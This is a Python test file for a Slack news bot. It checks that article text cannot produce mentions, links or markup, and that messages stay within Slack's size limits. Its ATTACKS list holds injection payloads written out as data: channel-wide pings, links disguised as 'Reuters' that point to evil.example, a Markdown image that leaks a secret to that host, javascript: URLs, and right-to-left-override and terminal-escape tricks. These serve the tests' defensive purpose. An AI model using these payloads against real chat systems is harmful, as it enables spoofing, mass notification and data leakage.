"""Nothing of an article acts in Slack, and every message keeps Slack's limits."""

from __future__ import annotations

import html
import json
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from slack_sdk.models.blocks import Block

from bot.records import Citation, Note, Sentence, Source
from bot.slack import blocks as blocks
from index.records import Article, Period
from tests.support.fake_slack import strings, too_long

URL = "https://courier.example/news/1"
ATTACKS = [
    "<!channel> and <!here> and <!everyone>",
    "<@U0ANN> <#C0NEWS|news> <!subteam^S1|desk>",
    "<https://evil.example|Reuters>",
    "[Reuters](https://evil.example)",
    "![x](https://evil.example/?q=secret)",
    "see https://evil.example/?q=secret and www.evil.example, HTTP://EVIL.example",
    "mailto:a@evil.example tel:+123 javascript:alert(1) slack://open",
    "*bold* _it_ ~gone~ `code` ```block```",
    "# Heading",
    "> quote",
    "1. one",
    "- item",
    ":tada: :+1::skin-tone-2:",
    "@channel @here",
    "&lt;!channel&gt; &amp;lt;",
    "a | b\n---|---\n1 | 2",
    "line\u2028<!channel>\r\n\r\n# x",
    "\u202egnp.exe \x1b]8;;https://evil.example\x07x",
]


def source(number: int = 1, title: str = "Title", url: str = URL) -> Source:
    return Source(number=number, article_id="a", version=1, title=title, outlet=title, agency="", lang="en", url=url,
                  published=Period.parse("2024-05-14"), copies=2)  # fmt: skip


def citation(quote: str = "the words", number: int = 1) -> Citation:
    return Citation(number=number, article_id="a", version=1, start=0, end=len(quote), quote=quote)


def everything(text: str) -> list[blocks.MessagePart]:
    """An answer all of whose words are the attacker's, as messages."""
    said = Sentence(text=text, citations=(citation(text),))
    article = Article(id="a", text=f"{text} {text} {text}", title=text, outlet=text, url=URL)
    shown = [source(title=text)]
    tail = [*blocks.sources(shown, said.citations), *blocks.passages([("other words", said.citations)], {("a", 1): article})]
    pieces = [*blocks.sentence(said, shown), *blocks.note(Note(kind="searched", text=text), shown)]
    return blocks.pack(pieces, [*tail, *blocks.said(blocks.literal(text))])


def addresses(part: blocks.MessagePart) -> list[str]:
    """What a client may make a link of: Markdown's links, link elements, and bare addresses anywhere."""
    text = json.dumps(part.payload(), ensure_ascii=False)
    return re.findall(r"(?i)(?:https?|ftp|mailto|tel|javascript|slack):[^\s\"\\)]*|www\.[^\s\"]+", text)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_article_acts(attack: str) -> None:
    assert everything(attack)
    for part in everything(attack):
        shown = json.dumps(part.payload(), ensure_ascii=False)
        assert not re.search(r"<[!@#]|<https?:|<mailto", shown)
        assert not re.search(r":[\w+-]+:", re.sub(r"https?://\S+?[)\"]", "", shown).replace('": "', ""))
        assert not re.search(r"@(channel|here|everyone)", shown)
        assert all(url.startswith(URL) for url in addresses(part)), addresses(part)
        assert "\x1b" not in shown and "\u202e" not in shown


@given(st.text(max_size=300))
def test_no_text_makes_a_link_a_mention_or_markup(text: str) -> None:
    for part in everything(text):
        assert all(url.startswith(URL) for url in addresses(part))
        assert not re.search(r"<[!@#]\w", json.dumps(part.payload(), ensure_ascii=False))
    marked = blocks.escaped(text)
    assert "<" not in marked and ">" not in marked and "\n" not in marked
    assert not re.search(r"(?<!\\)(?:\\\\)*[*_`~\[\]|]", marked)
    back = html.unescape(re.sub(r"\\([\\`*_~\[\]|#+=.)-])", r"\1", marked)).replace(blocks.JOINER, "")
    assert back == blocks.line(text).replace(blocks.JOINER, "")  # and nothing was lost


@given(
    st.text(alphabet=st.characters(codec="utf-8"), max_size=3000),
    st.sampled_from([URL, "", "ftp://x", "https://x.example/a(b)c"]),
)
def test_every_block_passes_slacks_own_validators(text: str, url: str) -> None:
    shown = [source(title=text, url=url)]
    said = (citation(text or "x"),)
    article = Article(id="a", text=text * 2, title=text, outlet=text, url=url)
    made = [
        *blocks.sources(shown, said),
        *blocks.passages([(text, said)], {("a", 1): article}),
        *blocks.passages([(text, said)], {}),
        *blocks.buttons(
            "0" * 32,
            passages=True,
            narrower=True,
            wider=True,
            share=True,
            chips={"outlet": text, "dates": text},
            dropped=["author"],
        ),
        *blocks.said(text or "x"),
    ]
    for block in made:
        parsed = Block.parse(block)
        assert parsed is not None
        parsed.validate_json()
        assert sum(blocks.size(piece) for piece in strings(block)) <= 6_000


@pytest.mark.parametrize("letter", ["a", "报", "م", "😀"])
@pytest.mark.parametrize("over", [-2, -1, 0, 1, 2])
def test_a_sentence_longer_than_a_message_is_cut_at_spaces_and_keeps_its_marks(letter: str, over: int) -> None:
    words = " ".join([letter * 9] * 2000)[: 12_000 // blocks.size(letter) + over]
    pieces = blocks.sentence(Sentence(text=words, citations=(citation(),)), [source()])
    assert all(blocks.size(piece) <= blocks.MARKDOWN for piece in pieces)
    assert ["[[1]](" in piece for piece in pieces] == [False] * (len(pieces) - 1) + [True]
    assert " ".join(piece.split(" [[1]]")[0].strip() for piece in pieces) == words.strip()


@pytest.mark.parametrize("heading", ["Title: " + "word " * 3200, "&" * 3000, "😀" * 7000, "Title"])
@pytest.mark.parametrize("cited", [1, 40])
def test_whatever_its_heading_a_sentence_is_shown_whole(heading: str, cited: int) -> None:
    long = f"{URL}/{'a' * 700}"
    said = Sentence(
        text="The mayor & the council spoke.", citations=tuple(citation(number=n) for n in range(cited)), heading=heading
    )
    pieces = blocks.sentence(said, [source(n, url=long) for n in range(cited)])
    assert "The mayor &amp; the council spoke." in " ".join(pieces)
    assert cited > 1 or all(blocks.size(piece) <= blocks.MARKDOWN for piece in pieces)


@given(
    st.lists(st.tuples(st.sampled_from("a报م😀"), st.integers(1, 9000)), max_size=8),
    st.lists(st.integers(1, 4000), max_size=70),
)
def test_packed_messages_keep_every_limit_and_lose_nothing(pieces: list[tuple[str, int]], tail: list[int]) -> None:
    texts = [f"{letter * (length // blocks.size(letter) + 1)} [1]\n\n" for letter, length in pieces]
    below: list[blocks.Json] = [{"type": "rich_text", "elements": [{"type": "text", "text": "b" * n}]} for n in tail]
    parts = blocks.pack(texts, below)
    assert "".join(part.text for part in parts) == "".join(texts)
    assert [block for part in parts for block in part.blocks] == below
    for part in parts:
        payload = part.payload()
        made = payload["blocks"]
        assert isinstance(made, list) and len(made) <= 50
        assert too_long("", made) == ""
        assert all(text.endswith("[1]") for text in [part.text.strip()] if text)


def test_every_number_in_a_message_is_a_source_below_it() -> None:
    shown = [source(1), source(2, url="https://diario.example/(x)_y")]
    said = Sentence(text="A [9] trap.", citations=(citation("one", 1), citation("two", 2), citation("three", 1)))
    (piece,) = blocks.sentence(said, shown)
    linked = re.findall(r"\[\[(\d+)\]\]\(([^)]*)\)", piece)
    assert linked == [("1", f"{URL}#:~:text=one"), ("2", "https://diario.example/%28x%29_y#:~:text=two")]
    below = list(strings(blocks.sources(shown, said.citations)))
    assert "[1] " in below and "[2] " in below
    assert r"A \[9\] trap." in piece


def test_a_source_without_a_web_address_is_not_linked() -> None:
    for url in ("", "file:///etc/passwd", "javascript:alert(1)", "not a url"):
        (piece,) = blocks.sentence(Sentence(text="Words.", citations=(citation(),)), [source(url=url)])
        assert piece == "Words. [1]\n\n"
        assert [text for text in strings(blocks.sources([source(url=url)], [])) if "://" in text] == []


@pytest.mark.parametrize(
    ("wire", "text"),
    [
        ("<@U0BOT> what &amp; why?", "what & why?"),
        ("<@U0BOT|dragoman> look at <https://x.example/a|x.example>", "look at x.example"),
        ("who is <@U0ANN> in <#C0NEWS|news> at <https://x.example>", "who is in news at https://x.example"),
        ("  a\n\nb  ", "a b"),
    ],
)
def test_a_question_is_read_as_its_writer_meant_it(wire: str, text: str) -> None:
    assert blocks.asked(wire, "U0BOT").removeprefix("dragoman ") == text


@pytest.mark.parametrize(("count", "messages"), [(48, 1), (49, 1), (50, 3), (98, 3), (99, 4)])
def test_a_message_holds_fifty_blocks(count: int, messages: int) -> None:
    tail: list[blocks.Json] = [{"type": "divider"}] * count
    parts = blocks.pack(["Words. [1]\n\n"], tail)
    assert len(parts) == messages
    assert max(len(made) for part in parts if isinstance(made := part.payload()["blocks"], list)) <= 50
    assert sum(len(part.blocks) for part in parts) == count


def test_a_translation_stands_below_the_words_and_is_called_one() -> None:
    words = "El puerto abre."
    article = Article(id="a", text=words, title="Puerto", lang="es")

    def shown(text: str) -> str:
        made = blocks.passages([(text, [citation(words)])], {("a", 1): article}, lambda cited: "The port opens.", "openai:m")
        return "".join(strings(made))

    assert shown(words).endswith(f"{words}\n\nTranslation by openai:m, not a quotation: The port opens.")
    assert "Translation" in shown("El puerto [2024-05-14] abre.")  # what we put beside the words changes nothing
    assert "Translation" not in shown("The port is to open.")  # a model's sentence stands above the words already
